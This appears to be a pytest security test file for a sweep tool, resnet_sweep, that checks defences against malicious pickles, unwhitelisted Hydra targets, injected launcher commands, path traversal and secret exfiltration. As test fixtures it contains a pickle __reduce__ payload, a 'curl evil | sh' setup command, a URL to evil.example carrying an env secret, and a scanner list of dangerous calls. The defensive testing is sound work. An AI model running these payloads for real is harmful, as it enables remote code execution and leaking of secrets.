"""What docs/security.md promises, in parts; test_security_attacks.py attacks whole commands."""

from __future__ import annotations

import ast
import io
import os
import pickle
import re
import stat
import sys
from collections.abc import Iterator
from importlib.util import find_spec
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import needs
import pytest
import torch
from hydra import compose, initialize_config_dir
from hydra.core.plugins import Plugins
from hydra.errors import InstantiationException
from hydra.utils import instantiate
from omegaconf import OmegaConf
from optuna.samplers import CmaEsSampler
from optuna.trial import create_trial

import resnet_sweep.trusted as trusted
from resnet_sweep.config import register_schema
from resnet_sweep.faults import ConfigError
from resnet_sweep.models.build import build_model
from resnet_sweep.models.config import ModelConfig, allow, allowed_modules
from resnet_sweep.models.weights import read_tensors
from resnet_sweep.paths import code_cache, config_dir
from resnet_sweep.report.runs import value_at
from resnet_sweep.study.folder import StudyFolder
from resnet_sweep.study.locks import FileLock
from resnet_sweep.study.storages.secrets import resolved_url
from resnet_sweep.sweep.cmaes import without_foreign_code
from resnet_sweep.sweep.local.payload import Work, write_payload
from resnet_sweep.sweep.ranking import own_folders
from resnet_sweep.sweep.ray_cluster import ask_for_token

PACKAGE = Path(trusted.__file__).parent

# Where the package turns bytes, text or names into code, and why it may.
_REASONS = {
    "sweep/local/child.py pickle.load": "from the parent, in a file without a name",
    "sweep/local/serve.py pickle.load": "from the parent, in a file without a name",
    "sweep/local/serve.py pickle.loads": "from our own child or job: a private socket or folder",
    "sweep/slurm/start.py pickle.load": "from the sweep, in a folder private to the user",
    "sweep/slurm/member.py pickle_load": "from our own job, in a folder private to the user",
    "sweep/compose.py pickle.loads": "made in the same function, a copy",
    "sweep/job.py pickle.loads": "made in the same function, a copy",
    "sweep/cmaes.py pickle.Unpickler": "a subclass that knows nine names",
    "report/runs.py yaml.load": "with OmegaConf's loader, a safe one",
    "models/weights.py torch.load": "weights_only=True",
    "data/build.py np.load": "allow_pickle is False unless given",
    "report/paired.py np.load": "allow_pickle=False",
    "__init__.py importlib.import_module": "names of our own, from a table",
    "data/__init__.py importlib.import_module": "names of our own, from a table",
    "models/__init__.py importlib.import_module": "names of our own, from a table",
    "sweep/foresight.py importlib.import_module": "names of our own, from a table",
    "sweep/task.py get_method": "asked of instantiate before, which judges the name",
    "sweep/task.py instantiate": "judged by what the application allows",
    "sweep/targets.py instantiate": "judged by a list of the caller's",
    "models/build.py instantiate": "judged by allowed_modules()",
}
_CALLS = {
    *("eval", "exec", "compile", "__import__", "import_module", "get_method", "get_class"),
    *("get_object", "instantiate", "Unpickler", "pickle_load", "mktemp", "system", "popen"),
    *("extractall", "get_static_method"),
}
_LOADERS = {"pickle", "cloudpickle", "torch", "np", "numpy", "yaml", "joblib", "marshal", "dill"}


def _dangerous(tree: ast.AST) -> Iterator[str]:
    for node in ast.walk(tree):
        if isinstance(node, ast.ClassDef):
            names = [ast.unparse(base) for base in node.bases]
            yield from (name for name in names if name.endswith(".Unpickler"))
        if not isinstance(node, ast.Call):
            continue
        keywords = {one.arg: ast.unparse(one.value) for one in node.keywords}
        if keywords.get("shell", "False") != "False":
            yield "shell=True"
        if keywords.get("allow_pickle", "False") != "False":
            yield "allow_pickle=True"
        if keywords.get("weights_only", "True") != "True":
            yield "weights_only=False"
        name = ast.unparse(node.func)
        owner, _, last = name.rpartition(".")
        is_loader = last in ("load", "loads", "unsafe_load", "full_load") and owner in _LOADERS
        # re.compile and torch.compile compile no Python, and model.eval() is no eval().
        is_other = last in ("compile", "eval") and owner
        if is_loader or (last in _CALLS and not is_other):
            yield name
            if name == "torch.load" and "weights_only" not in keywords:
                yield "torch.load without weights_only"


def test_no_new_place_turns_what_it_reads_into_code() -> None:
    found = {
        f"{path.relative_to(PACKAGE)} {call}"
        for path in PACKAGE.rglob("*.py")
        for call in _dangerous(ast.parse(path.read_text()))
    }
    assert found - _REASONS.keys() == set(), "say in _REASONS why this is safe"
    assert _REASONS.keys() - found == set(), "is there no more"


class _Attack:
    """Runs when it is unpickled."""

    def __init__(self, canary: Path) -> None:
        self.canary = canary

    def __reduce__(self) -> tuple[Any, ...]:
        return os.mkdir, (str(self.canary),)


def test_a_pickle_as_weights_or_checkpoint_does_not_run(tmp_path: Path) -> None:
    canary, file = tmp_path / "canary", tmp_path / "last.pt"
    torch.save({"model": {"fc.weight": _Attack(canary)}}, file)
    with pytest.raises(ValueError, match="more than tensors"):
        read_tensors(file)
    file.write_bytes(pickle.dumps(_Attack(canary)))
    with pytest.raises(ValueError, match=r"no file of torch\.save"):
        read_tensors(file)
    assert not canary.exists()


def test_cmaes_takes_no_more_than_an_optimizer_from_a_study(tmp_path: Path) -> None:
    sampler = without_foreign_code(CmaEsSampler())
    assert isinstance(sampler, CmaEsSampler)
    packed = pickle.dumps(_Attack(tmp_path / "canary")).hex()
    trial = create_trial(value=1.0, system_attrs={"cma:optimizer:0": packed})
    with pytest.raises(ConfigError, match=r"mkdir, which is no part of an optimizer"):
        sampler._restore_optimizer([trial])
    assert not (tmp_path / "canary").exists()
    assert sampler._restore_optimizer([create_trial(value=1.0)]) is None


def test_hydra_builds_only_what_is_named_exactly() -> None:
    whitelist = trusted.execution_whitelist()
    for target in trusted.TARGETS[3:]:
        instantiate({"_target_": target, "_partial_": True}, _execution_whitelist_=whitelist)
    for target in (
        "resnet_sweep.models.allow.take_allow",
        "resnet_sweep.sweep.task.task_factory",
        "torchvision.models._api.WeightsEnum.get_state_dict",
        "logging.config.dictConfig",
        "logging.handlers.SocketHandler",
        "os.system",
    ):
        with pytest.raises(InstantiationException, match="whitelist"):
            instantiate({"_target_": target, "_partial_": True}, _execution_whitelist_=whitelist)
    allow(["my_hooks"])
    assert "my_hooks.*" in trusted.execution_whitelist()


def test_a_network_cannot_have_its_arguments_fetched(tmp_path: Path) -> None:
    file, canary = tmp_path / "evil.pth", tmp_path / "canary"
    torch.save(_Attack(canary), file)
    weights = {
        "_target_": "torchvision.models._api.WeightsEnum.get_state_dict",
        "self": {
            "_target_": "torchvision.models._api.Weights",
            **{"url": file.as_uri(), "transforms": None, "meta": {}},
        },
    }
    hidden = "${oc.create:{_target_: torchvision.models.resnet34}}"
    for value in (weights, [weights], {"inner": {"weights": weights}}):
        config = ModelConfig(_target_="torchvision.models.resnet18", kwargs={"weights": value})
        with pytest.raises(ConfigError, match=r"get_state_dict: is outside the modules"):
            build_model(config, 2, 3, 32)
    config = ModelConfig(_target_="torchvision.models.resnet18", kwargs={"norm_layer": hidden})
    # What it is called with is the text.
    with pytest.raises(ConfigError, match="'str' object is not callable"):
        build_model(config, 2, 3, 32)
    assert not canary.exists()


def test_an_environment_that_a_job_sets_extends_nothing(monkeypatch: pytest.MonkeyPatch) -> None:
    before = allowed_modules()
    monkeypatch.setenv("RESNET_SWEEP_ALLOW", "os")
    assert allowed_modules() == before


@pytest.mark.parametrize(
    ("typed", "value"),
    [
        ("hydra.launcher.setup", ["touch x"]),
        ("hydra.launcher.python", "./evil"),
        ("+hydra.launcher.additional_parameters.wrap", "evil"),
        ("+hydra.job.env_set.PATH", "/tmp/evil"),
        ("++hydra.launcher.ray.init.address", "1.2.3.4:6379"),
        ("+hydra.launcher.ray.init.runtime_env.pip", ["evil"]),
        ("hydra.launcher.ray.init.address", "auto"),
        ("+hydra.launcher.ray.init._tracing_startup_hook", "evil:net"),
        ("+hydra.launcher.ray.init._temp_dir", "/tmp/evil"),
        ("+hydra.launcher.ray.init.include_dashboard", True),
        ("+hydra.launcher.ray.remote.runtime_env.pip", ["evil"]),
        ("hydra.launcher.ray.cluster.head_setup_commands", ["touch x"]),
        ("hydra.launcher.env_setup.commands", ["touch x"]),
        ("+hydra.job.env_set.RESNET_SWEEP_ALLOW", "local"),
    ],
)
def test_commands_are_a_persons(typed: str, value: object) -> None:
    key = typed.lstrip("+")
    config = OmegaConf.create({"hydra": {"job": {"env_copy": [], "env_set": {}}, "launcher": {}}})
    OmegaConf.update(config, key, value, force_add=True)
    # As if a file had set it: nothing was typed to our commands.
    (fault,) = trusted.command_faults(config)
    assert fault.key == key
    allow(trusted.typed_commands(["x=1", f"{typed}={value}"]))
    assert trusted.command_faults(config) == []


def test_only_what_is_typed_in_a_mapping_is_trusted() -> None:
    files = {"python": "./evil", "additional_parameters": {"wrap": "touch x", "exclusive.a": "b"}}
    hydra = {"job": {"env_copy": [], "env_set": {"A": "1", "PATH": "/tmp"}}, "launcher": files}
    config = OmegaConf.create({"hydra": hydra})
    words = [
        "hydra.launcher.additional_parameters={exclusive: true, comment: null}",
        "hydra.launcher={setup: [touch y], ray: {init: {address: auto, _temp_dir: /x}}}",
        "+hydra.job={env_set: {A: 1}}",
        # Takes away, is nothing of Hydra's, cannot be read, is no command.
        *("~hydra.launcher.python", "--config-dir=hydra.launcher.python", "hydra.launcher={"),
        *("+hydra.launcher.srun_args={}", "hydra.sweep.dir=x", "hydra/launcher=slurm"),
    ]
    for word in (words[0].partition("=")[::2], ("hydra.launcher.setup", "[touch y]")):
        OmegaConf.update(config, word[0], OmegaConf.create(word[1]), force_add=True)
    init = {"address": "auto", "_temp_dir": "/x", "num_cpus": 2, "include_dashboard": False}
    OmegaConf.update(config, "hydra.launcher.ray.init", init, force_add=True)
    typed = trusted.typed_commands(words)
    assert typed == [
        "hydra.launcher.additional_parameters.exclusive",
        "hydra.launcher.setup",
        "hydra.launcher.ray.init.address",
        "hydra.launcher.ray.init._temp_dir",
        "hydra.job.env_set.A",
    ]
    allow(typed)
    assert [fault.key for fault in trusted.command_faults(config)] == [
        "hydra.job.env_set.PATH",
        "hydra.launcher.python",
        "hydra.launcher.additional_parameters.wrap",
        r"hydra.launcher.additional_parameters.exclusive\.a",
    ]


@pytest.mark.parametrize("launcher", ["slurm", "ray", "ray_aws"])
def test_the_launchers_own_settings_are_no_commands(launcher: str) -> None:
    if launcher.startswith("ray") and find_spec("ray") is None:
        needs.skip_or_fail("ray", "Ray is not installed: pip install hydra-ray-launcher")
    register_schema()
    overrides = [f"hydra/launcher={launcher}"]
    with initialize_config_dir(config_dir=str(config_dir())):
        config = compose("config", overrides=overrides, return_hydra_config=True)
    assert trusted.command_faults(config) == []
    if launcher == "ray_aws":
        config.hydra.launcher.env_setup.commands.append("touch x")
        (fault,) = trusted.command_faults(config)
        assert fault.key == "hydra.launcher.env_setup.commands"


def test_what_is_copied_from_the_environment_is_no_files_own() -> None:
    job = {"env_copy": ["HOME"], "env_set": {"HOME": "/root"}}
    assert trusted.command_faults(OmegaConf.create({"hydra": {"job": job, "launcher": None}})) == []


def test_no_launcher_begins_with_a_files_commands(monkeypatch: pytest.MonkeyPatch) -> None:
    started: list[object] = []

    def launch(self: Plugins, hydra_context: object, task_function: object, config: object) -> None:
        started.append(config)

    for name in ("instantiate_sweeper", "instantiate_launcher"):
        monkeypatch.setattr(Plugins, name, launch)
    trusted.guard_plugins()
    hydra: dict[str, Any] = {"job": {"env_copy": [], "env_set": {}}, "launcher": {"setup": []}}
    plugins = object.__new__(Plugins)
    plugins.instantiate_launcher(None, None, OmegaConf.create({"hydra": hydra}))  # type: ignore[arg-type]
    assert len(started) == 1
    hydra["launcher"] = {"setup": ["curl evil | sh"]}
    with pytest.raises(ConfigError, match=r"hydra\.launcher\.setup=.*no file may give"):
        plugins.instantiate_launcher(None, None, OmegaConf.create({"hydra": hydra}))  # type: ignore[arg-type]
    assert len(started) == 1


@pytest.mark.parametrize(
    ("name", "is_below"),
    [
        *(("trials/3", True), ("3", True), ("a b/ü", True)),
        *(("..", False), ("../other", False), ("trials/../../other", False), ("/etc", False)),
        *(("", False), (".", False), ("a\0b", False), (None, False), (3, False)),
    ],
)
def test_a_study_names_folders_below_its_own(tmp_path: Path, name: object, is_below: bool) -> None:
    assert (StudyFolder(tmp_path).below(name) is not None) == is_below


def test_nothing_outside_of_a_study_is_deleted(tmp_path: Path) -> None:
    home = StudyFolder(tmp_path / "study")
    (home.path / "trials" / "0").mkdir(parents=True)
    (tmp_path / "mine").mkdir()
    (home.path / "trials" / "link").symlink_to(tmp_path / "mine")
    attrs: list[dict[str, Any]] = [
        {"folder": "trials/0"},
        {"folder": "trials/link", "retry_of": 0},
        {"folder": "../mine", "retry_of": 1},
        {"folder": str(tmp_path / "mine"), "retry_of": 2},
        # Round in a circle, and out of the study.
        {"folder": "trials/0", "retry_of": 4},
        {"folder": "trials/0", "retry_of": -1},
    ]
    trials = [create_trial(value=1.0, user_attrs=one) for one in attrs]
    for number, trial in enumerate(trials):
        trial.number = number
    study: Any = SimpleNamespace(get_trials=lambda deepcopy: trials)
    own = home.path / "trials" / "0"
    assert [list(own_folders(one, study, home)) for one in trials] == [[own]] * 6


def test_a_lock_is_taken_through_no_link(tmp_path: Path) -> None:
    (tmp_path / "sweep.lock").symlink_to(tmp_path / "mine")
    with pytest.raises(OSError, match="symbolic links"):
        FileLock(tmp_path / "sweep.lock").acquire()
    assert not (tmp_path / "mine").exists()


def test_code_is_kept_where_only_its_user_can_write(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    monkeypatch.setenv("RESNET_SWEEP_CACHE", str(tmp_path / "cache"))
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "own"))
    folder = code_cache()
    assert folder == tmp_path / "cache" / "compiled"
    assert stat.S_IMODE(folder.stat().st_mode) == 0o700
    assert not caplog.text
    (tmp_path / "cache").chmod(0o777)
    assert code_cache() == tmp_path / "own" / "resnet_sweep" / "compiled"
    assert "others can write" in caplog.text
    (tmp_path / "own").chmod(0o777)
    passing = code_cache()
    assert stat.S_IMODE(passing.stat().st_mode) == 0o700
    assert not passing.is_relative_to(tmp_path / "own")
    passing.rmdir()


def test_a_report_does_not_read_the_environment(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("SECRET", "hunter2")
    settings = {"a": "x ${oc.env:SECRET}", "b": "${a}", "c": ["${oc.env:SECRET,none}"], "d": "${e}"}
    settings["e"] = "as before"
    written = "x ${oc.env:SECRET}"
    assert [value_at(settings, key) for key in "abd"] == [written, written, "as before"]
    assert value_at(settings, "c") == ["${oc.env:SECRET,none}"]
    assert OmegaConf.create(settings).b == "x hunter2"


def test_no_variable_goes_to_the_host_that_a_study_names(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("SECRET", "hunter2")
    with pytest.raises(ConfigError, match="one variable as a whole") as caught:
        resolved_url("postgresql://me@evil.example/${oc.env:SECRET}")
    assert "hunter2" not in str(caught.value)


def test_what_workers_are_given_has_no_name() -> None:
    work: Any = Work(None, OmegaConf.create({}), print, None)  # type: ignore[arg-type]
    with write_payload(work) as file:
        found = os.fstat(file.fileno())
        assert found.st_nlink == 0
        assert stat.S_IMODE(found.st_mode) & 0o077 == 0
        assert isinstance(file, io.BufferedRandom)


def test_a_ray_cluster_of_our_own_asks_for_a_token(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delitem(sys.modules, "ray", raising=False)
    for name in ("RAY_AUTH_MODE", "RAY_AUTH_TOKEN", "RAY_AUTH_TOKEN_PATH"):
        monkeypatch.delenv(name, raising=False)
    # So that both are unset again.
    with monkeypatch.context() as context:
        context.setattr(os, "environ", {})
        ask_for_token()
        assert os.environ["RAY_AUTH_MODE"] == "token"
        first = os.environ["RAY_AUTH_TOKEN"]
        assert len(first) == 64
        ask_for_token()
        assert os.environ["RAY_AUTH_TOKEN"] == first


def test_who_has_imported_ray_before_is_told(
    monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    monkeypatch.setattr(os, "environ", {})
    for is_there in (True, False):
        ray = SimpleNamespace(is_initialized=lambda is_there=is_there: is_there)
        monkeypatch.setitem(sys.modules, "ray", ray)
        assert not caplog.text
        ask_for_token()
    # Of a cluster that is there the program has taken care; of ours nobody has.
    assert "imported ray before the sweep" in caplog.text
    assert os.environ == {}


def test_the_page_names_tests_that_there_are() -> None:
    root = PACKAGE.parent
    text = (root / "docs" / "security.md").read_text()
    source = "".join(path.read_text() for path in (root / "tests").rglob("test_*.py"))
    names = re.findall(r"::(test_\w+)", text)
    assert len(names) > 20
    assert [name for name in names if f"def {name}(" not in source] == []
    files = re.findall(r"`((?:\w+/)*test_\w+\.py)", text)
    assert [file for file in files if not (root / "tests" / file).is_file()] == []
